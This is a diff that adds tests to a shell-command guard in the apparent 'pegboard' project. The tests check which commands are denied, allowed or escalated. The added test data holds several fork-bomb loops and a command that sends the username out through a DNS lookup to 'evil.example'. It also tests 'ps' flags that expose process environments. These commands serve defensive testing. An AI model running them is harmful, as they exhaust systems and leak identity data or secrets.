@@ -16,6 +16,7 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from pegboard.core.execpattern import exec_pattern_matches
+from pegboard.core.rules import Rule, Situation
 from pegboard.shell.guard import MAX_COMMAND_BYTES, inspection, judge
 from pegboard.shell.guard.walk import bash_parser
 from tests.ledger import SHARED, owes
@@ -389,3 +390,52 @@ def test_texts_that_crashed_the_parser_are_judged() -> None:
     )
 
     assert done.returncode == 0, done.stderr
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "while :; do :& done", "while true; do sleep 1 & done", "until false; do (:)& done", "for ((;;)); do ls & done",
+        "while [ 1 ]\ndo\n  ./a & ./b\ndone",
+    ],
+)  # fmt: skip
+def test_a_loop_without_end_that_only_starts_more_is_refused(command: str, workspace: Path) -> None:
+    assert judge(command, workspace).decision == "deny"
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "for i in 1 2 3; do pytest $i & done; wait", "while read line; do echo $line & done",
+        "while :; do make & wait; done", "while true; do ls & sleep 5; done", "while :; do echo hi && ls; done",
+    ],
+)  # fmt: skip
+def test_a_loop_that_ends_or_waits_is_no_bomb(command: str, workspace: Path) -> None:
+    assert judge(command, workspace).decision == "allow"
+
+
+def test_asking_for_a_host_reaches_a_name_server(workspace: Path) -> None:
+    found = judge("getent hosts $(whoami).evil.example", workspace)
+
+    assert found.decision == "ask"
+    assert ("connect", "….evil.example") in [(e.kind, e.target) for e in found.effects]
+    assert judge("getent passwd root", workspace).decision == "allow"
+
+
+@pytest.mark.parametrize(
+    ("command", "decision"),
+    [
+        ("ps eww", "ask"), ("ps auxe", "ask"), ("ps -p 1 e", "ask"), ("ps aux", "allow"), ("ps -ef", "allow"),
+        ("ps axo etime", "allow"), ("ps -eo pid,etime --sort etime", "allow"),
+    ],
+)  # fmt: skip
+def test_ps_asks_where_it_shows_environments(command: str, decision: str, workspace: Path) -> None:
+    assert judge(command, workspace).decision == decision
+
+
+def test_a_rule_for_sudo_and_one_for_what_it_runs_both_see_the_command(workspace: Path) -> None:
+    effects = judge("sudo -u bob timeout 5 rm x", workspace).effects
+    denied = [Rule.parse(rule) for rule in ("deny exec:sudo *", "deny exec:rm *")]
+
+    for rule in denied:
+        assert any(rule.covers(effect, Situation()) for effect in effects)
